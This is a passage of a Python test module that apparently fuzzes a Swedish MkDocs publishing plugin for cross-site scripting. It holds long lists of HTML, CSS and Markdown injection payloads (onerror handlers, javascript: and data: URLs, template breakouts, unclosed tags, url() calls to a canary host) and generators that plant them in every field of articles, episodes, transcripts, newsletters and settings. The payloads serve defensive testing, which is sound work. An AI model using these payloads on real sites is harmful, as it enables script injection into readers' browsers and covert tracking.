    "<p style='text-align:left;;background:url(//CANARY/)'>x</p>",
    "<table><tr><td style='text-align:left/**/;background:url(//CANARY/)'>x</table>",
    "<table><tr><td style='text-align:&#10;left;}*{background:url(//CANARY/)'>x</table>",
    "<style>@font-face{font-family:x;src:url(//CANARY/)}*{font-family:x}</style>",
    "<style>@namespace x url(//CANARY/);b::after{content:url(//CANARY/)}</style>",
    "<style>@media all{@import '//CANARY/'}p{cursor:url(//CANARY/),auto}</style>",
    "<p background=//CANARY/ bgcolor=x>x</p><td bgcolor='\"><img src=x onerror=HIT>'>",
    # What is never ended.
    "<img alt='' src='//CANARY/?",
    '<img alt="" src="//CANARY/?',
    "<a href='//CANARY/?><b title='x'>",
    "<base target='",
    "<textarea name=x>",
    "<form action=//CANARY/><textarea name=x>",
    "<style>@import '//CANARY/?",
    "<meta http-equiv=refresh content='0;url=//CANARY/?",
    "<plaintext><!--",
    "<b title='<!--'><img src=x onerror=HIT>-->",
    "<!--<b title='-->'><img src=x onerror=HIT>",
    "<!-- <!-- --><img src=x onerror=HIT> -->",
    "<!--\x00--><img src=x onerror=HIT>",
    "<!--x--!\n><img src=x onerror=HIT>-->",
    "<!-><img src=x onerror=HIT>",
    "<!x><img src=x onerror=HIT>",
    "<!x '><img src=x onerror=HIT>'>",
    "<?x><img src=x onerror=HIT>?>",
    "<?x '?><img src=x onerror=HIT>'?>",
    "</x title='><img src=x onerror=HIT>'>",
    "</\x00><img src=x onerror=HIT>",
    "<![CDATA[x]]><img src=x onerror=HIT>",
    # What Markdown makes of it.
    "[x]: /om/ '\"onmouseover=HIT x=\"'\n\n[x] ![x]",
    '[x]: </om/?"onmouseover=HIT> "x"\n\n[x]',
    '["onclick=HIT]: javascript:HIT (x)\n\n["onclick=HIT]',
    "[x]:\n  javascript:HIT\n  'x'\n\n[x]",
    "[x]: java\\\tscript:HIT\n\n[x]",
    "[x](&#x6a;&#x61;vascript&#58;HIT)",
    "[x](java&NewLine;script&colon;HIT)",
    "[x](javascript\\:HIT)",
    "[x](%6aavascript:HIT)",
    "[x](javascript%3aHIT)",
    "[x](\x00javascript:HIT)",
    "[x](<\njavascript:HIT>)",
    '[x](</om/? "onclick=HIT>)',
    '[x](/om/ ("onclick=HIT))',
    '[x](/om/ "&quot;onclick=HIT x=&quot;")',
    '[x](/om/ "\\"><img src=x onerror=HIT>")',
    "[](javascript:HIT)",
    "[![](//CANARY/)](javascript:HIT)",
    "[x](mailto:x@y.example?body=<script>HIT</script>)",
    "[x](tel:javascript:HIT)",
    '[x](#"><img/src=x/onerror=HIT>)',
    '[x](/om/?"><img/src=x/onerror=HIT>)',
    "![&#34;onerror=HIT](karta.png)",
    '![`"><img src=x onerror=HIT>`](karta.png)',
    "![<b title='](karta.png)'><img src=x onerror=HIT>",
    '![x](karta.png "&#34; onload=HIT")',
    '![x](karta.png#"onload=HIT)',
    '![x](karta.png?"onload=HIT)',
    "![x](/.//CANARY/)",
    "![x](.//CANARY/)",
    "![x](\\\\\\\\CANARY/)",
    "![x](https:/CANARY/)",
    '[x](samtal.mp3){: data-page="javascript:HIT" }',
    "[x](samtal.mp3 '\"><img src=x onerror=HIT>')",
    '[[x"onclick=HIT]]',
    "[[x|<img src=x onerror=HIT>]]",
    '![[karta.png|"onerror=HIT]]',
    "<javascript:HIT>",
    "<java&#115;cript:HIT>",
    "<data:text/html,HIT>",
    '<mailto:x@y.example"onclick=HIT>',
    "<https://exempel.se/'onclick='HIT'>",
    "https://exempel.se/&quot;onclick=HIT",
    'https://exempel.se/"><img/src=x/onerror=HIT>',
    'www.exempel.se/"onclick=HIT',
    'x@y.example"onclick=HIT',
    '## "><img src=x onerror=HIT>\n\n[TOC]',
    '## x {: #"><img/src=x/onerror=HIT> }',
    "## [x](javascript:HIT)",
    "## `<img src=x onerror=HIT>` &lt;img src=x onerror=HIT&gt;\n\n[TOC]",
    "# <script>HIT</script>\n\n[TOC]",
    'a[^x"onclick=HIT]\n\n[^x"onclick=HIT]: y',
    "a[^'><img/src=x/onerror=HIT>]\n\n[^'><img/src=x/onerror=HIT>]: y",
    "a[^1]\n\n[^1]: x\n\n    <img src=x onerror=HIT>\n\n    [y](javascript:HIT)",
    "*[<b]: \"onclick=HIT\n\n<b title='<b'>",
    "*[b]: '\"><img src=x onerror=HIT>\n\n<b>b</b> `b` b",
    "*[src]: onerror=HIT\n\n![src](karta.png) src",
    'x\n{: #x"onclick=HIT .y"onclick=HIT }',
    "x\n{: title='\"><img src=x onerror=HIT>' }",
    'x\n{: title="&quot;><img src=x onerror=HIT>" }',
    "x\n{: class='x\" onclick=\"HIT' }",
    "x\n{: ONCLICK=HIT On-Click=HIT xml:onclick=HIT }",
    "x\n{: srcdoc=HIT ping=//CANARY/ style='background:url(//CANARY/)' }",
    "[x](/om/){: formaction=\"javascript:HIT\" xlink:href='javascript:HIT' }",
    "![x](karta.png){: src=/.//CANARY/ }",
    "![x](karta.png){: src='data:image/svg+xml,<svg onload=HIT>' }",
    "| a |\n| :-: |\n| <img src=x onerror=HIT> |",
    '| a"onclick=HIT |\n| --- |\n| [x](javascript:HIT) |',
    "| a |\n| --- |\n| `|<img src=x onerror=HIT>` |",
    "- [ ] <img src=x onerror=HIT>\n- [x] [y](javascript:HIT)",
    "> [!note] <img src=x onerror=HIT>\n> x",
    '??? note "<img src=x onerror=HIT>"\n    x',
    '!!! "><img src=x onerror=HIT>\n    x',
    '~~~"><img src=x onerror=HIT>\nx\n~~~',
    '```js {title="</span><img src=x onerror=HIT>"}\nx\n```',
    "```html\n<script>HIT</script>\n```\n<img src=x onerror=HIT>",
    "<details markdown=1><summary onclick=HIT>x</summary>\n\n[y](javascript:HIT)\n\n</details>",
    "<div markdown='1' title='\n\n'><img src=x onerror=HIT>\n\n</div>",
    "<p markdown=span onclick=HIT>[x](javascript:HIT)</p>",
    "x\\\n<img src=x onerror=HIT>\\\ny",
    "x  \n<img src=x\n  onerror=HIT>",
    "*<b title=*'><img src=x onerror=HIT>'*",
    "`<img src=x `onerror=HIT>`>`",
    "\\<img src=x onerror=HIT\\>\n\n\\[x\\](javascript:HIT)",
    "&lt;script&gt;HIT&lt;/script&gt; &#x26;lt;img src=x onerror=HIT&#x26;gt;",
    "\U000e0001<img src=x onerror=HIT>\U000e007f",
    "\ufeff<img src=x onerror=HIT>",
)
"""Kinds that later attacks brought: readers that differ, names, schemes, styles, open ends, Markdown's own."""

CONTEXTS = (
    "</title><script>HIT</script>",
    '"><img src=x onerror=HIT>',
    "'><img src=x onerror=HIT>",
    "</script><script>HIT</script>",
    "<!--<script>HIT</script>",
    "--><script>HIT</script><!--",
    "]]><img src=x onerror=HIT><![CDATA[",
    ']]><script xmlns="http://www.w3.org/1999/xhtml">HIT</script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">HIT</script>',
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>HIT</x:script>",
    "</textarea></style></noscript></template><svg/onload=HIT>",
    "&lt;img src=x onerror=HIT&gt;",
    "&amp;lt;img src=x onerror=HIT&amp;gt;",
    "&#60;img src=x onerror=HIT&#62;",
    '" onfocus="HIT" autofocus tabindex="0" x="',
    "' onfocus='HIT' autofocus tabindex='0' x='",
    "x onmouseover=HIT tabindex=0",
    "{{ ''.__class__ }}{% raw %}{{ hit }}<img src=x onerror=HIT>",
    "${HIT}`;HIT;`",
    '\\";HIT;//',
    "';HIT;//",
    "\\u003cimg src=x onerror=HIT\\u003e",
    "\u2028HIT\u2029<img src=x onerror=HIT>",
    "\u202e<img src=x onerror=HIT>",
    "<a href='javascript:HIT'>x</a>",
    "[x](javascript:HIT) ![x](//CANARY/) <javascript:HIT>",
    "<link rel=stylesheet href=//CANARY/><style>@import '//CANARY/'</style>",
    "<meta http-equiv=refresh content='0;url=//CANARY/'><base href=//CANARY/>",
    "<?xml-stylesheet href='//CANARY/'?><!DOCTYPE x SYSTEM '//CANARY/'>",
    "</p></div></article></main><iframe srcdoc='<script>parent.HIT</script>'></iframe>",
)
"""What breaks out of the places where a template, a feed or JSON puts a field."""

ADDRESSES = (
    "javascript:HIT",
    " javascript:HIT",
    "JaVaScRiPt:HIT",
    "java\tscript:HIT",
    "java\nscript:HIT",
    "\x01javascript:HIT",
    "javascript&colon;HIT",
    "data:text/html,<script>HIT</script>",
    "vbscript:HIT",
    "blob:https://exempel.se/x",
    'https://exempel.se/"onmouseover="HIT',
    "https://exempel.se/'onmouseover='HIT",
    "https://exempel.se/><img/src=x/onerror=HIT>",
    "https://exempel.se/]]><script>HIT</script>",
)
"""For fields that hold an address."""


def filled(text: str, id_: str) -> str:
    """The text with a call or an address that tells its id; it holds no space and no quotes of HTML.

    The call is written with the sign that the fewest contexts end: `hit(/id/.source)`.
    """
    return (
        text.replace("HIT", f"hit(/{id_}/.source)")
        .replace("ID", id_)
        .replace("CANARY/", f"{CANARY}/{id_}/")
    )


def bodies() -> Iterator[Payload]:
    """Payloads that are (part of) a text in Markdown."""
    elements = cycle(ELEMENTS)
    texts = [
        *(line for line in _TAGS.strip("\n").split("\n") if line),
        *_MULTILINE,
        *_FURTHER,
        *(f"<{next(elements)} on{event}=HIT>" for event in EVENTS),
        *(f"*x*{{: on{event}=HIT }}" for event in EVENTS[::5]),
        *(f"Ord {text} ord." for text in CONTEXTS),
    ]
    for number, text in enumerate(texts, start=1):
        yield Payload(f"b{number}", filled(text, f"b{number}"))


# A publication whose every field is one of CONTEXTS.


def field(name: str, number: int) -> str:
    """The context of that number, with an id that names the field."""
    text = filled(CONTEXTS[number % len(CONTEXTS)], f"{name}-{number}")
    # Other fields than these must be one line, and are refused when they are not.
    return text if name in {"bio", "caption", "correction", "description"} else _one_line(text)


def _one_line(text: str) -> str:
    return re.sub("[\u2028\u2029]", " ", text)


def some(name: str, first: int, count: int = 3) -> str:
    """Several contexts in one value."""
    return " ".join(field(name, first + more) for more in range(count))


def markdown(head: dict[str, Any], text: str) -> str:
    """A file; its front matter is written as JSON, which is YAML."""
    rows = (f"{key}: {json.dumps(value)}" for key, value in head.items())
    return "---\n" + "\n".join(rows) + f"\n---\n\n{text}\n"


def article(number: int) -> str:
    """An article with one context in each of its fields."""

    def say(name: str) -> str:
        return field(name, number)

    head = {
        "title": say("title"),
        "description": say("description"),
        "date": f"2025-02-{1 + number % 28:02d}T06:{number:02d}",
        "authors": [f"a{number}"],
        "categories": [say("category")],
        "tags": ["gemensam", say("tag")],
        "image": "bild.png",
        "image_alt": say("alt"),
        "image_caption": say("caption"),
        "image_credit": say("credit"),
        "corrections": [{"date": "2025-03-01", "text": say("correction")}],
        "mail": {"send": True, "subject": say("subject"), "preheader": say("preheader")},
    }
    text = "En text om halvledare.\n\n![Bild](bild.png)\n\n## Rubrik\n\n" + escaped(say("text"))
    return markdown(head, text)


def escaped(text: str) -> str:
    """Text in Markdown that means just that text."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


def episode(number: int) -> str:
    """An episode with three contexts in each of its fields."""

    def say(name: str) -> str:
        return some(f"e-{name}", number * 3)

    head = {
        "title": say("title"),
        "description": say("description"),
        "date": f"2025-01-{1 + number:02d}",
        "show": "podden",
        "audio": f"ljud{number}.mp3",
        "transcript": f"ljud{number}.vtt",
        "authors": ["a1"],
        "tags": ["gemensam"],
        "image": "bild.png",
        "image_alt": say("alt"),
        "image_caption": say("caption"),
        "chapters": [
            {"start": "00:00", "title": say("chapter"), "url": "https://exempel.se/\"x='y'<z>"},
            f"00:01 {say('chapter2')}",
        ],
        "people": [{"name": field("e-person", number), "url": 'https://exempel.se/?"><b>'}],
        "links": [{"title": say("link"), "url": "https://exempel.se/'\"><b>"}],
        "mail": {"send": True},
    }
    return markdown(head, "En text om podden.\n\n" + escaped(say("text")))


def vtt(number: int) -> str:
    """A transcript: what is said, and by whom."""
    cues = [
        f"00:00:0{at}.000 --> 00:00:0{at + 1}.000\n<v {voice}>{words}\n"
        for at, (voice, words) in enumerate(
            (field("voice", number + more).replace(">", ""), field("cue", number + more))
            for more in range(4)
        )
    ]
    return "WEBVTT\n\n" + "\n".join(cues)


def newsletter(number: int) -> str:
    """A letter that gathers and places pieces."""

    def say(name: str) -> str:
        return some(f"n-{name}", number * 3)

    head = {
        "title": say("title"),
        "description": say("description"),
        "date": f"2025-03-{3 + number:02d}T06:00",
        "subject": say("subject"),
        "preheader": say("preheader"),
        "articles": [f"../artiklar/f{number}.md", f"../artiklar/f{number + 1}.md"],
    }
    return markdown(head, "God morgon!\n\n" + escaped(say("text")))


def files() -> dict[str, str]:
    """The texts and settings of the whole publication, by path."""
    count = len(CONTEXTS)
    authors = {
        f"a{at}": {"name": field("author", at), "bio": field("bio", at)} for at in range(count)
    }
    return {
        "mkdocs.yml": json.dumps(settings()),
        "content/forfattare.yml": json.dumps(authors),
        "feeds/artiklar.yml": json.dumps(
            {"kind": "articles", "title": some("feed", 0), "description": some("about", 3)}
            | {"formats": ["rss", "atom", "json"]}
        ),
        "feeds/podden.yml": json.dumps(show()),
        "content/sidor/om.md": "---\ntitle: Om\n---\n\nText.\n",
        "content/sidor/prenumerera.md": "---\ntitle: Prenumerera\n---\n\nText.\n",
        **{f"content/artiklar/f{at}.md": article(at) for at in range(count)},
        **{f"content/avsnitt/f{at}.md": episode(at) for at in range(4)},
        **{f"content/avsnitt/ljud{at}.vtt": vtt(at * 4) for at in range(4)},
        **{f"content/nyhetsbrev/f{at}.md": newsletter(at) for at in range(4)},
    }


def show() -> dict[str, Any]:
    """A podcast."""
    return {
        "kind": "podcast",
        "title": some("s-title", 0),
        "subtitle": some("s-subtitle", 3),
        "description": some("s-description", 6),
        "author": some("s-author", 9),
        "owner": {"name": field("s-owner", 13), "email": "podd@prov.example"},
        "image": "podden.jpg",
        "image_alt": some("s-alt", 15),
        "categories": [{"name": "News"}],
        "language": "sv",
        "copyright": some("s-copyright", 18),
        "hosts": [{"name": field("s-host", 1), "role": "host"}],
        "platforms": [{"title": some("s-platform", 24), "url": "https://exempel.se/\"'<x>"}],
    }


def settings() -> dict[str, Any]:
    """What mkdocs.yml says."""
    return {
        "site_name": some("site", 0),
        "site_description": some("site-about", 3),
        "site_url": "https://prov.example/",
        "copyright": some("copyright", 6),
        "docs_dir": "content",
        "site_dir": "build/site",
        "theme": {"name": "material", "language": "sv"},
        "nav": [
            {title: "/arkiv/" if at % 2 else "https://exempel.se/\"'<x>"}
            for at in range(len(CONTEXTS))
            if len(title := field("menu", at)) <= limits.KEY_CHARS
        ],
        "markdown_extensions": [name for name, _ in EXTENSIONS],
        "plugins": [
            {
                "publisher": {
                    "subscribers": 775,
                    "subscribe_url": "/prenumerera/",
                    "editor": some("editor", 15),
                    "contact": some("contact", 18),
                    "cards": False,
                    "share": ["mejl", "bluesky", "x", "facebook", "linkedin", "adress"],
                    "mail": {
                        "from_name": some("from", 21),
                        "from_email": "brev@prov.example",
                        "reply_to": "red@prov.example",
                        "list_id": "brev.prov.example",
                        "unsubscribe": "https://prov.example/prenumerera/?\"'<x>",
                        "address": some("address", 24),
                    },
                }
            }
        ],
    }
